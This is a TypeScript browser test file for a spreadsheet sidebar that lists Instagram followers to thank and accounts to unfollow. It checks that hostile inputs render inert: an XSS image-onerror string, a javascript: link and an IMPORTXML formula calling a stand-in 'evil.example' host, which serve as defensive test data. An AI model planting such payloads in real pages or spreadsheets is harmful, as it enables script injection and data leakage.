// The Say thanks and Make room lists in the built Sidebar.html, against the real bundle (dist/Code.js through
// gas-local over the emulated spreadsheet): links, Done / Not now / Unfollowed / Keep, the history rows they write,
// and a mention whose text is HTML shown as text.
import { HISTORY_TAB } from '../../src/core/history';
import type { Cell } from '../../src/core/types';
import { createWorkbook, tabValues, type Workbook } from '../../src/emulator';
import { sidebarSession } from './sidebar-session';

const XSS = '<img src=x onerror=alert(1)>';
const NOW = Date.UTC(2026, 10, 25, 12);

function workbook(followingCount: number): Workbook {
  const followers: Cell[][] = [
    ['Username', 'Full name', 'Bio', 'Followers', 'Following', 'Posts', 'Has profile picture'],
    ['jane.doe', 'Jane Doe', 'Potter', 412, 380, 96, 'yes'],
    ['xss_fan', XSS, 'I love your mugs', 230, 310, 40, 'yes'],
    ['sam.r', 'Sam Rivera', 'Hiker', 98, 120, 30, 'yes'],
    ['user84736291', '', '', 2, 7480, 0, 'no'],
  ];
  const orders: Cell[][] = [['Name', 'Email', 'Financial Status', 'Total', 'Billing Name', 'Notes'], ['#1001', 'jane.doe@example.com', 'paid', 84.5, 'Jane Doe', 'instagram @jane.doe']];
  const engagement: Cell[][] = [
    ['Username', 'Type', 'Date', 'Permalink', 'Text'],
    ['xss_fan', 'mention', '2026-11-23', 'https://www.instagram.com/p/XSS1/', XSS],
    ['sam.r', 'comment', '2026-11-22', 'javascript:alert(2)', '=IMPORTXML("http://evil.example","//a")'],
    ['jane.doe', 'tag', '2026-11-20', 'https://www.instagram.com/p/JANE1/', 'My new mug'],
    ['user84736291', 'comment', '2026-11-24', 'https://spam.example/x', 'Buy followers'],
  ];
  const following: Cell[][] = [
    ['Username', 'Followed on', 'Followers', 'Following', 'Posts', 'Profile picture'],
    ['jane.doe', '2025-01-01', 412, 380, 96, 'yes'],
    ['quiet.studio', '2022-06-01', 1200, 600, 400, 'yes'],
    ['spam4u_83920174', '2025-09-01', 3, 7400, 0, 'no'],
    ['new.shop', '2026-10-01', 400, 380, 50, 'yes'],
  ];
  const book = createWorkbook([
    { name: 'Followers', values: followers },
    { name: 'Orders', values: orders },
    { name: 'Engagement', values: engagement },
    { name: 'Following', values: following },
  ]);
  book.documentProperties['followback.settings'] = JSON.stringify({ now: NOW, followingCount });
  return book;
}

const withSidebar = sidebarSession('sidebar-lists', {
  ready: async (page) => {
    await page.waitForSelector('#thanks .thanks-list > li, #thanks .empty', { state: 'attached' });
    await page.waitForSelector('#room .room-list > li, #room .empty, #room .list-notes', { state: 'attached' });
  },
});

const history = (book: Workbook) => (tabValues(book, HISTORY_TAB) || []).slice(1).map((r) => [r[1], r[3], r[5]]);

test('Say thanks: customers first, post and profile links open outside, a bad link is text, bots are not listed', async () => {
  const book = workbook(0);
  await withSidebar('thanks', book, async ({ page }) => {
    const handles = await page.$$eval('#thanks .thanks-list > li', (els) => els.map((e) => e.getAttribute('data-handle')));
    expect(handles).toEqual(['jane.doe', 'xss_fan', 'sam.r']);
    const jane = page.locator('#thanks .thanks-list > li[data-handle="jane.doe"]');
    await expect(jane.locator('.badge.customer').textContent()).resolves.toBe('Customer');
    await expect(jane.locator('.why').textContent()).resolves.toMatch(/^customer · 1 order · tagged you once in the last 30 days$/);
    const post = jane.locator('a.post-link');
    expect(await post.getAttribute('href')).toBe('https://www.instagram.com/p/JANE1/');
    expect(await post.getAttribute('target')).toBe('_blank');
    expect(await post.getAttribute('rel')).toBe('noopener noreferrer');
    expect(await jane.locator('a.name').getAttribute('href')).toBe('https://www.instagram.com/jane.doe/');
    // sam.r's link was javascript:…: no link at all, and the formula-looking text is shown as typed.
    const sam = page.locator('#thanks .thanks-list > li[data-handle="sam.r"]');
    expect(await sam.locator('a.post-link').count()).toBe(0);
    await expect(sam.locator('blockquote.said').textContent()).resolves.toBe('=IMPORTXML("http://evil.example","//a")');
    expect(await page.locator('#thanks a[href^="javascript"]').count()).toBe(0);
  });
});

test('a mention whose text is <img src=x onerror=alert(1)> is shown as those characters: no element, no script', async () => {
  const book = workbook(0);
  await withSidebar('escaping', book, async ({ page }) => {
    const said = page.locator('#thanks .thanks-list > li[data-handle="xss_fan"] blockquote.said');
    await expect(said.textContent()).resolves.toBe(XSS);
    expect(await said.isVisible()).toBe(true);
    expect(await page.locator('img').count()).toBe(0);
    expect(await page.locator('#thanks *').evaluateAll((els) => els.filter((e) => e.getAttributeNames().some((a) => a.startsWith('on'))).length)).toBe(0);
  });
});

test('Done and Not now write their history rows and take the person off the list', async () => {
  const book = workbook(0);
  await withSidebar('thanks-actions', book, async ({ page }) => {
    await page.click('#thanks .thanks-list > li[data-handle="jane.doe"] button[data-action="thanked"]');
    await page.waitForSelector('#thanks .thanks-list > li[data-handle="jane.doe"]', { state: 'detached' });
    await page.click('#thanks .thanks-list > li[data-handle="sam.r"] button[data-action="not now"]');
    await page.waitForSelector('#thanks .thanks-list > li[data-handle="sam.r"]', { state: 'detached' });
    expect(history(book)).toEqual([
      ['jane.doe', 'thanked', 'Say thanks'],
      ['sam.r', 'not now', 'Say thanks'],
    ]);
    expect(await page.$$eval('#thanks .thanks-list > li', (els) => els.map((e) => e.getAttribute('data-handle')))).toEqual(['xss_fan']);
    expect(await page.textContent('#message')).toBe('');
  });
});

test('Make room opens by itself near the cap; Keep and Unfollowed are recorded and the Following tab is unchanged', async () => {
  const book = workbook(7000);
  const following = JSON.stringify(tabValues(book, 'Following'));
  await withSidebar('room', book, async ({ page }) => {
    expect(await page.getAttribute('#room-section', 'open')).not.toBeNull();
    const handles = await page.$$eval('#room .room-list > li', (els) => els.map((e) => e.getAttribute('data-handle')));
    expect(handles).toEqual(['spam4u_83920174', 'quiet.studio', 'new.shop']); // jane.doe: a customer who follows back
    const summary = (await page.textContent('#room .room-summary'))!;
    expect(summary).toContain('Following 7,000 of a cap of 7,500: 500 follows left.');
    expect(summary).toContain('Unfollowing these 3 frees 3 follows: 503 left under the cap.');
    expect(summary).toContain('Safe pace: 100 unfollows a day (0 done today).');
    await expect(page.textContent('#room .room-list > li[data-handle="spam4u_83920174"] .reasons')).resolves.toMatch(/^Does not follow you back; Bot signs: /);
    expect(await page.getAttribute('#room .room-list > li[data-handle="quiet.studio"] a.name', 'href')).toBe('https://www.instagram.com/quiet.studio/');
    await page.click('#room .room-list > li[data-handle="quiet.studio"] button[data-action="keep"]');
    await page.waitForSelector('#room .room-list > li[data-handle="quiet.studio"]', { state: 'detached' });
    await page.click('#room .room-list > li[data-handle="spam4u_83920174"] button[data-action="unfollowed"]');
    await page.waitForSelector('#room .room-list > li[data-handle="spam4u_83920174"]', { state: 'detached' });
    await expect(page.textContent('#room .room-summary')).resolves.toContain('(1 done today)');
    expect(history(book)).toEqual([
      ['quiet.studio', 'keep', 'Make room'],
      ['spam4u_83920174', 'unfollowed', 'Make room'],
    ]);
    expect(JSON.stringify(tabValues(book, 'Following'))).toBe(following);
  });
});

test('far from the cap, Make room waits closed until asked for', async () => {
  const book = workbook(100);
  await withSidebar('room-closed', book, async ({ page }) => {
    expect(await page.getAttribute('#room-section', 'open')).toBeNull();
    expect(await page.isVisible('#room .room-list > li')).toBe(false);
    await page.click('#room-section > summary');
    expect(await page.isVisible('#room .room-list > li[data-handle="quiet.studio"]')).toBe(true);
    const width = await page.evaluate(() => document.documentElement.scrollWidth);
    expect(width).toBeLessThanOrEqual(300);
  });
});
